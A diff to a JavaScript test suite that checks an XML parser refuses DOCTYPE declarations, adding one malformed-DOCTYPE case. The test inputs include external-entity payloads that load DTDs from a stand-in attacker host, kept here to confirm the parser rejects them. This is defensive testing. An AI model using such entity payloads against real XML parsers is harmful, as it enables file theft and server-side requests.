@@ -37,6 +37,7 @@ describe('hostile XML is refused with a reason', () => {
     '<!DOCTYPE d PUBLIC "-//x" "http://attacker.invalid/evil.dtd">',
     '<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.invalid/p"> %p;]>',
     '<!DOCTYPE ClinicalDocument>',
+    '<!-- <a> --><?p <b> ?>\r\n<!DOCTYPE never [ "ends',
   ])('an external or internal document type: %s', (doctype) => {
     expect(errorOf(withDoctype(doctype, '&x;'))).toBe('DoctypeRefused');
   });
